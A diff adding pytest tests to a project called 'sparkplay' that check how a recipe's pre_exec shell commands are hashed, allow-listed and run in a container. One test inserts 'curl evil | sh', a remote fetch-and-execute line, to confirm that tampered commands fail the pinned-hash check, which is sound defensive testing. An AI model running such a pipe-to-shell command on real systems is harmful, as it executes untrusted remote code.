@@ -20,6 +20,7 @@ from sparkplay.engines import mods as plan_mods
 from sparkplay.engines.plan import Options, build
 from sparkplay.errors import BadInput
 from sparkplay.lab import image
+from sparkplay.recipes import hooks
 from tests.test_engines import ROOT, nodes
 from tests.test_recipes import cli
 
@@ -170,3 +171,76 @@ def test_a_hand_written_mod_path_that_leaves_its_folder_is_refused_before_anythi
     assert model.schema_errors(doc)
     with pytest.raises(BadInput, match="leaves the mod's folder"):
         plan_of(doc, ["mod:fix-parser"])
+
+
+# -- pre_exec: the recipe's own commands, before its mods ------------------------------------------------------
+
+PRE_EXEC = ["mkdir -p /tmp/sparkplay-pre && echo 'pre for {model}' > /tmp/sparkplay-pre/ran",
+            "echo \"cwd $PWD, ${HOME:-nohome} {unknown}\" >> /tmp/sparkplay-pre/ran"]  # fmt: skip
+
+
+def with_pre_exec(recipe: Path, entries: list) -> Path:
+    data = yaml.safe_load(recipe.read_text())
+    recipe.write_text(yaml.safe_dump({**data, "pre_exec": entries}))
+    return recipe
+
+
+def test_pre_exec_is_rendered_pinned_and_runs_only_where_the_inventory_allows_its_hash(tmp_path):
+    doc = importing.import_source(str(with_pre_exec(registry(tmp_path), PRE_EXEC)))
+    pre = doc["engine"]["pre_exec"]
+    # {model} filled as sparkrun fills it (the recipe's model id); an unknown {...} and the shell's ${...} stay
+    assert pre["commands"][0].endswith("echo 'pre for Qwen/Qwen3-30B-A3B' > /tmp/sparkplay-pre/ran")
+    assert pre["commands"][1] == PRE_EXEC[1] and len(pre["sha256"]) == 64
+    allow = f"pre_exec:{pre['sha256'][:12]}"
+    assert allow in next(n["detail"] for n in doc["provenance"] if n["key"] == "engine.pre_exec")
+    with pytest.raises(BadInput, match=allow):
+        plan_of(doc, ["mod:fix-parser"])
+    (rank,) = plan_of(doc, ["mod:fix-parser", allow])["ranks"]
+    script = next(f for f in rank["files"] if f["path"].endswith("/" + plan_mods.PRE_EXEC))
+    assert "bash -c 'mkdir -p /tmp/sparkplay-pre" in script["content"]
+    edited = json.loads(json.dumps(doc))
+    edited["engine"]["pre_exec"]["commands"].append("curl evil | sh")
+    with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
+        plan_of(edited, ["mod:fix-parser", allow])
+
+
+@pytest.mark.parametrize(("entries", "why"), [
+    ([{"copy": {"src": "~/patch.py", "dest": "/workspace/patch.py"}}], "copies a file from the control machine"),
+    ("mkdir /x", "must be a list of commands"),
+])  # fmt: skip
+def test_a_pre_exec_sparkplay_cannot_carry_stays_not_honoured_saying_why(tmp_path, entries, why):
+    doc = importing.import_source(str(with_pre_exec(registry(tmp_path), entries)))
+    assert "pre_exec" not in doc["engine"]
+    said = next(n["detail"] for n in doc["provenance"] if n["key"] == "extra.sparkrun_not_honoured.pre_exec")
+    assert why in said
+
+
+@pytest.mark.usefixtures("lab_host")
+@pytest.mark.lab
+def test_the_wrapper_runs_pre_exec_then_the_mods_then_the_engine(tmp_path):
+    """sparkrun's order in a real container: the recipe's pre_exec (by bash, in the container's working folder),
+    then its mods, then the engine with its own arguments."""
+    doc = importing.import_source(str(with_pre_exec(registry(tmp_path / "reg"), PRE_EXEC)))
+    allow = f"pre_exec:{doc['engine']['pre_exec']['sha256'][:12]}"
+    (rank,) = plan_of(doc, ["mod:fix-parser", allow])["ranks"]
+    (mount,) = [m for m in rank["mounts"] if m["target"] == plan_mods.MOUNT]
+    host = tmp_path / "mods"
+    for f in rank["files"]:
+        path = host / f["path"].removeprefix(mount["source"] + "/")
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(f["content"])
+        path.chmod(int(f["mode"], 8))
+    tag, _ = image.ensure_image(image.ImageRecipe())
+    engine = ["/bin/cat", "/tmp/sparkplay-pre/ran", "/tmp/sparkplay-mod-ran"]
+    run = subprocess.run(["docker", "run", "--rm", "--network", "none", "-w", "/srv", "-v",
+                          f"{host}:{plan_mods.MOUNT}:ro", "--entrypoint", "/bin/sh", tag, "-c", plan_mods.WRAPPER,
+                          *engine], capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+    assert run.returncode == 0, run.stderr
+    assert run.stdout == "pre for Qwen/Qwen3-30B-A3B\ncwd /srv, /root {unknown}\npatched by fix-parser from /srv\n"
+    failing = {**doc, "engine": {**doc["engine"], "pre_exec": {"commands": ["exit 3"], "sha256": ""}}}
+    failing["engine"]["pre_exec"]["sha256"] = hooks.digest(["exit 3"])
+    (host / plan_mods.PRE_EXEC).write_text(plan_mods.pre_exec_script(failing) or "")
+    run = subprocess.run(["docker", "run", "--rm", "--network", "none", "-v", f"{host}:{plan_mods.MOUNT}:ro",
+                          "--entrypoint", "/bin/sh", tag, "-c", plan_mods.WRAPPER, "/bin/echo", "engine started"],
+                         capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+    assert run.returncode == 3 and "engine started" not in run.stdout  # the first failure stops the start
